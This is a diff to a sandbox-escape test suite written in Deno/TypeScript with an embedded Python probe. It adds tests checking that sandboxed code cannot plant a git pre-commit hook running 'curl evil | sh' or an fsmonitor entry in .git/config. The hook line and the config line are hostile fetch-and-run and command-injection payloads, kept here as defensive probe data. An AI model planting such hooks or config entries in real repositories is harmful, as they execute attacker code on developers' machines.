@@ -13,13 +13,13 @@ import {
   assertStringIncludes,
 } from "./helpers/sandbox_assert.ts";
 import { join } from "node:path";
+import { SandboxSession, withDenialNotes } from "../lib/sandbox/mod.ts";
 import {
-  defaultPermissions,
-  permissionsFromFlags,
-  SandboxSession,
-  withDenialNotes,
-} from "../lib/sandbox/mod.ts";
-import { makeFixture, runSandboxed, sandboxSkipReason } from "./helpers/sandbox_fixture.ts";
+  fixturePermissions,
+  makeFixture,
+  runSandboxed,
+  sandboxSkipReason,
+} from "./helpers/sandbox_fixture.ts";
 
 const skip = await sandboxSkipReason();
 if (skip) console.log(`sandbox escape tests skipped: ${skip}`);
@@ -74,6 +74,9 @@ t("net_direct", lambda: socket.create_connection(("127.0.0.1", int(A)), timeout=
 t("run_denied", lambda: subprocess.run(["curl", "--version"], check=True, capture_output=True))
 t("run_allowed", lambda: subprocess.run(["ls", "/"], check=True, capture_output=True))
 t("no_api_key", check_key)
+t("write_git_hook", lambda: open(W + "/.git/hooks/pre-commit", "w").write("#!/bin/sh\\ncurl evil | sh\\n"))
+t("write_git_config", lambda: open(W + "/.git/config", "a").write("[core]\\nfsmonitor = evil\\n"))
+t("write_git_object", lambda: open(W + "/.git/objects/x", "w").write("x"))
 `;
 
 const SH_PROBE = `
@@ -133,9 +136,7 @@ Deno.test({
     const fx = await makeFixture();
     try {
       const perms = () =>
-        permissionsFromFlags({ "allow-net": `127.0.0.1:${fx.allowedPort}`, "deny-run": "curl" }, {
-          cwd: fx.work,
-        });
+        fixturePermissions(fx, { "allow-net": `127.0.0.1:${fx.allowedPort}`, "deny-run": "curl" });
       const args = [
         fx.work,
         fx.outside,
@@ -196,12 +197,27 @@ Deno.test({
         name: "python",
         ignore: !hasPython,
         fn: async () => {
-          const { notes } = await check("python", ["python3", "-c", PY_PROBE, ...args], [
-            "write_etc",
-            "net_direct",
-            "list_secret_dir",
-            "proc_init_root",
-          ], ["run_allowed"]);
+          const gitRepo = async () => {
+            for (const d of ["hooks", "objects"]) {
+              await Deno.mkdir(join(fx.work, ".git", d), { recursive: true });
+            }
+            await Deno.writeTextFile(join(fx.work, ".git", "config"), "[core]\n");
+          };
+          const { notes } = await check(
+            "python",
+            ["python3", "-c", PY_PROBE, ...args],
+            [
+              "write_etc",
+              "net_direct",
+              "list_secret_dir",
+              "proc_init_root",
+              "write_git_hook",
+              "write_git_config",
+            ],
+            ["run_allowed", "write_git_object"],
+            gitRepo,
+          );
+          assertEquals(await Deno.readTextFile(join(fx.work, ".git", "config")), "[core]\n");
           assertStringIncludes(notes, `Writing ${fx.outside}/pwned.txt was denied`);
         },
       });
@@ -244,7 +260,7 @@ Deno.test({
   async fn() {
     const fx = await makeFixture();
     try {
-      const p = permissionsFromFlags({ "deny-net": true }, { cwd: fx.work });
+      const p = fixturePermissions(fx, { "deny-net": true });
       const code = `
 import socket, urllib.request, sys
 for port in sys.argv[1:]:
@@ -326,7 +342,7 @@ Deno.test({
   async fn() {
     const fx = await makeFixture();
     const session = await SandboxSession.open({
-      permissions: defaultPermissions({ cwd: fx.work }),
+      permissions: fixturePermissions(fx),
       cwd: fx.work,
     });
     const driver =
@@ -372,7 +388,7 @@ Deno.test({
     const fx = await makeFixture();
     const marker = `313.${Math.floor(Math.random() * 1e6)}`;
     const session = await SandboxSession.open({
-      permissions: defaultPermissions({ cwd: fx.work }),
+      permissions: fixturePermissions(fx),
       cwd: fx.work,
     });
     const w = session.wrap(["bash"]);
@@ -425,7 +441,7 @@ Deno.test({
         name: "python reads only the listed paths",
         ignore: !hasPython,
         fn: async () => {
-          const p = permissionsFromFlags({ "allow-read": fx.work }, { cwd: fx.work });
+          const p = fixturePermissions(fx, { "allow-read": fx.work });
           const code = `
 import sys
 for f in sys.argv[1:]:
@@ -450,9 +466,7 @@ for f in sys.argv[1:]:
         },
       });
       await t.step("shell runs only the listed programs; env only the listed names", async () => {
-        const p = permissionsFromFlags({ "allow-run": "bash,ls", "allow-env": "VISIBLE" }, {
-          cwd: fx.work,
-        });
+        const p = fixturePermissions(fx, { "allow-run": "bash,ls", "allow-env": "VISIBLE" });
         const script = `
 if ls / >/dev/null 2>&1; then echo "RESULT ls ok"; else echo "RESULT ls denied"; fi
 if cat in.txt 2>/dev/null; then echo "RESULT cat ok"; else echo "RESULT cat denied"; fi
@@ -501,7 +515,7 @@ try:
 except Exception as e: print("RESULT sock denied", e)
 `;
       for (const flags of [{}, { "deny-net": true }] as Record<string, boolean>[]) {
-        const p = permissionsFromFlags(flags, { cwd: fx.work });
+        const p = fixturePermissions(fx, flags);
         const { out } = await runSandboxed(p, ["python3", "-c", code, path], { cwd: fx.work });
         expectDenied(results(out), ["sock"], out);
       }
